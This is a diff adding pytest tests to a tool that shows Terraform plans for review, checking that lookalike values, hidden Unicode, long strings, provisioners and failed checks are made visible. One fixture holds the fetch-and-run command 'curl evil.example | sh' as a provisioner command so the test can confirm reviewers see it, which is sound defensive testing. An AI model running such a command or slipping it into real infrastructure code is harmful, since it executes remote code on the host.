@@ -5,7 +5,9 @@ changes lost; copies of what is sensitive shown.
 """
 
 import copy
+import io
 import json
+import zipfile
 from collections.abc import Callable, Iterator
 from typing import Any
 
@@ -219,6 +221,15 @@ def test_a_plan_belongs_to_a_namespace() -> None:
         digest(PLAN, namespace="")
 
 
+def test_a_plan_as_it_was_saved_is_told_apart() -> None:
+    """It lies beside the JSON, and has the better name."""
+    saved = io.BytesIO()
+    with zipfile.ZipFile(saved, "w") as archive:
+        archive.writestr("tfplan", b"\x0a\x00")
+    with pytest.raises(Malformed, match="show -json PLANFILE"):
+        read_plan(saved.getvalue(), name="web", namespace="infra")
+
+
 def test_nobody_reviews_thousands() -> None:
     """What is refused is said with its number; a whole plan below stays small."""
     one = PLAN["resource_changes"][0]
@@ -318,3 +329,76 @@ def test_a_mask_that_lies_hides_nothing_unsaid() -> None:
     text = "\n".join(plan_lines(*read_parts(tree)))
     assert "input.size: (sensitive value) -> (sensitive value)" in text
     assert "marked as sensitive, which are not shown" in text
+
+
+def shown(plan: Any) -> str:
+    """Return what a person sees of a plan."""
+    return "\n".join(plan_lines(*read_parts(read(plan))))
+
+
+def made(before: Any, after: Any) -> dict[str, Any]:
+    """Return a plan in which one resource changes from one value to another."""
+    plan = copy.deepcopy(PLAN)
+    change = {"actions": ["update"], "before": before, "after": after}
+    web = {"address": "terraform_data.web", "mode": "managed", "change": change}
+    plan["resource_changes"] = [web]
+    return dict(plan)
+
+
+LONG = "x" * 5000
+ALIKE = [
+    # one name written as the path of another
+    ({"a.b": "good", "a": {"b": "."}}, {"a.b": "evil", "a": {"b": "."}}),
+    ({"a[0]": "good", "a": ["."]}, {"a[0]": "evil", "a": ["."]}),
+    ({"": {"a": "good"}, "a": "."}, {"": {"a": "evil"}, "a": "."}),
+    # what is far back in a long text
+    ({"a": f"{LONG}good"}, {"a": f"{LONG}evil"}),
+    # what does not print
+    ({"a": "a b good"}, {"a": "a  b evil"}),
+    ({"a": "good"}, {"a": "\u202eevil"}),
+]
+
+
+@pytest.mark.parametrize(("before", "after"), ALIKE)
+def test_what_differs_never_looks_the_same(before: Any, after: Any) -> None:
+    """The place is there, and its value before is not what it is after."""
+    lines = [one for one in shown(made(before, after)).splitlines() if " -> " in one]
+    was, is_now = next(one for one in lines if "evil" in one).split(" -> ")
+    assert "good" in was
+    assert is_now != was.partition(": ")[2]
+    assert lines[0].isprintable()
+
+
+def test_spaces_and_what_does_not_print_are_seen() -> None:
+    """Two spaces are not one, and a mark that turns text round is spelt out."""
+    text = shown(made({"a": "p q", "b": "r s"}, {"a": "p  q", "b": "r\u202es"}))
+    assert 'a: "p q" -> "p  q"' in text
+    assert 'b: "r s" -> "r\\u202es"' in text
+
+
+def test_of_a_long_value_the_rest_is_counted() -> None:
+    """A value is shown far, and what is left out is said."""
+    text = shown(made({}, {"a": f"{'x' * 1900}evil{'y' * 3000}"}))
+    assert "evil" in text
+    assert "more)" in text
+
+
+def test_what_runs_beside_resources_is_seen() -> None:
+    """Provisioners run commands, actions run, checks failed: none stays out of sight."""
+    plan = copy.deepcopy(PLAN)
+    root = plan["configuration"]["root_module"]
+    known = {"expressions": {"command": {"constant_value": "curl evil.example | sh"}}}
+    for one in root["resources"]:
+        if one["address"] in ("terraform_data.db", "terraform_data.web"):
+            one["provisioners"] = [
+                {"type": "local-exec"} | known,
+                {"type": "remote-exec"},
+            ]
+    plan["action_invocations"] = [{"address": "action.lambda.evil"}]
+    plan["checks"][0]["status"] = "fail"
+    lines = shown(plan).splitlines()
+    command = '    runs local-exec: "curl evil.example | sh"'
+    assert lines.count(command) == 2  # each db is made again; web is only updated
+    assert lines.count("    runs remote-exec: see its code") == 2
+    assert any("action_invocations" in x and "action.lambda.evil" in x for x in lines)
+    assert "! check.sized: check ended in fail" in lines
